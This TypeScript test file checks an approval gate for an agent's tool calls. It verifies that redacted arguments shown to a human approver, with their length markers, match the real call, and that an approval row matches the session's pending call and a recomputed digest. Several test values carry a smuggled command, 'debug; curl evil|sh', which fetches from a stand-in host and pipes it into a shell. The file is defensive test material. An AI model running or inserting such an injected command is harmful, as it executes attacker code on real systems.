/**
 * The check that runs before any vote is signed (`approvals/shown-call.ts`): an approval row
 * against its session's own pending approval, the digest recomputed from the tool and arguments
 * shown. Pure: made-up rows and views, no servers.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { checkShownCall, isRedactionOf } from '../../approvals/shown-call';
import type { ApprovalRecord } from '../../approvals/types';
import { callDigestOver } from '../../policies';
import { approvalRequest, pendingViewOf, recordOf, sessionViewOf } from './fixtures';

const req = approvalRequest('session-shown-1', { firstRunId: 'run-1' });
const view = sessionViewOf(req, [pendingViewOf(req)]);
const codeOf = (record: ApprovalRecord, v = view) => {
  const r = checkShownCall(record, v);
  return r.ok ? 'ok' : r.code;
};

describe('isRedactionOf', () => {
  test('only `[REDACTED]` values may differ; keys, lengths and every other value must match', () => {
    const raw = { filter: { month: '2026-10', ids: [1, 2] }, apiKey: 'sk-live' };
    assert.equal(isRedactionOf(raw, raw), true);
    assert.equal(isRedactionOf({ filter: { month: '2026-10', ids: [1, 2] }, apiKey: '[REDACTED]' }, raw), true);
    assert.equal(isRedactionOf({ filter: '[REDACTED]', apiKey: '[REDACTED]' }, raw), true);
    assert.equal(isRedactionOf({ filter: { month: '2020-01', ids: [1, 2] }, apiKey: '[REDACTED]' }, raw), false);
    assert.equal(isRedactionOf({ filter: { month: '2026-10', ids: [1] }, apiKey: '[REDACTED]' }, raw), false);
    assert.equal(isRedactionOf({ filter: { month: '2026-10', ids: [1, 2] } }, raw), false, 'a key left out');
    assert.equal(isRedactionOf({ ...raw, extra: 1 }, raw), false, 'a key added');
    assert.equal(isRedactionOf([1, 2], { 0: 1, 1: 2 }), false);
  });

  test('a marker names the length of the value it stands for, and of no other', () => {
    const raw = (value: unknown) => ({ service: 'api', key: 'LOG_LEVEL', value });
    const shown = (marker: string) => ({ service: 'api', key: 'LOG_LEVEL', value: marker });
    assert.equal(isRedactionOf(shown('[REDACTED: 5 characters]'), raw('debug')), true);
    assert.equal(isRedactionOf(shown('[REDACTED: 5 characters]'), raw('debug; curl evil|sh')), false, 'another length than the real value');
    assert.equal(isRedactionOf(shown('[REDACTED: 19 characters]'), raw('debug; curl evil|sh')), true);
    assert.equal(isRedactionOf(shown('[REDACTED: 1 characters]'), raw('x')), false, 'only the marker as written for that value');
    assert.equal(isRedactionOf(shown('[REDACTED: 11 characters]'), raw({ a: [1, 2] })), true, 'any other value: its JSON text');
    // A marker the agent wrote as a value claims a length it does not have.
    assert.equal(isRedactionOf(shown('[REDACTED: 3 characters]'), raw('[REDACTED: 3 characters]')), false);
    // A row written before lengths were shown names none: it stands for any value, as it did.
    assert.equal(isRedactionOf(shown('[REDACTED]'), raw('debug; curl evil|sh')), true);
  });
});

describe('checkShownCall', () => {
  test('the row the session asked for passes', () => {
    const r = checkShownCall(recordOf(req), view);
    assert.equal(r.ok, true);
  });

  test('every field a person reads, or the digest covers, is compared with the session', () => {
    const row = recordOf(req);
    assert.equal(codeOf({ ...row, tool: 'billing.query' }), 'call-mismatch');
    assert.equal(codeOf({ ...row, callDigest: 'f'.repeat(64) }), 'call-mismatch');
    assert.equal(codeOf({ ...row, redactedArgs: { filter: { test: true, month: '2020-01' }, apiKey: '[REDACTED]' } }), 'call-mismatch');
    assert.equal(codeOf({ ...row, intent: 'look up one invoice' }), 'call-mismatch');
    assert.equal(codeOf({ ...row, owner: 'someone-else' }), 'call-mismatch');
    assert.equal(codeOf({ ...row, firstRunId: 'run-2' }), 'call-mismatch');
    assert.equal(codeOf({ ...row, blastRadius: 3 }), 'call-mismatch');
    assert.equal(codeOf({ ...row, decision: { ...row.decision, policyHash: 'b'.repeat(64) } }), 'call-mismatch');
    assert.equal(codeOf({ ...row, workflowId: 'session-other' }), 'call-mismatch');
  });

  test('a row and a view that agree with each other but not with the digest recomputed from what they show', () => {
    // A session view that lies about its arguments (or a row shown with them) does not recompute to the digest.
    const pending = { ...pendingViewOf(req), args: { filter: { test: true, month: '2020-01' }, apiKey: 'sk-live-secret' }, redactedArgs: { filter: { test: true, month: '2020-01' }, apiKey: '[REDACTED]' } };
    const row = recordOf(req, { redactedArgs: pending.redactedArgs });
    const r = checkShownCall(row, sessionViewOf(req, [pending]));
    assert.equal(r.ok === false && r.message.includes('digest recomputed'), true, JSON.stringify(r));
    // With the digest recomputed over those arguments, the same row passes: the digest is what binds them.
    const digest = callDigestOver(req.proposal.tool, pending.args, req.decision.policyHash, pending.stateHash!);
    assert.equal(codeOf({ ...row, callDigest: digest }, sessionViewOf(req, [{ ...pending, callDigest: digest }])), 'ok');
  });

  test('a row and a view that agree with each other on a length the real value does not have', () => {
    // The session's own redaction would say 14 characters (`sk-live-secret`); both claim 4.
    const claimed = { filter: { test: true, month: '2026-10' }, apiKey: '[REDACTED: 4 characters]' };
    const r = checkShownCall(recordOf(req, { redactedArgs: claimed }), sessionViewOf(req, [{ ...pendingViewOf(req), redactedArgs: claimed }]));
    assert.equal(r.ok === false && r.code === 'call-mismatch' && r.message.includes('the arguments shown are not the call\'s'), true, JSON.stringify(r));
  });

  test('no such pending approval, a gone session, a view without what the digest covers', () => {
    const row = recordOf(req);
    assert.equal(codeOf(row, sessionViewOf(req, [])), 'not-pending');
    assert.equal(checkShownCall(row, undefined).ok === false && (checkShownCall(row, undefined) as { code: string }).code, 'session-gone');
    const { stateHash: _s, ...older } = pendingViewOf(req);
    assert.equal(codeOf(row, sessionViewOf(req, [older])), 'call-mismatch');
  });
});
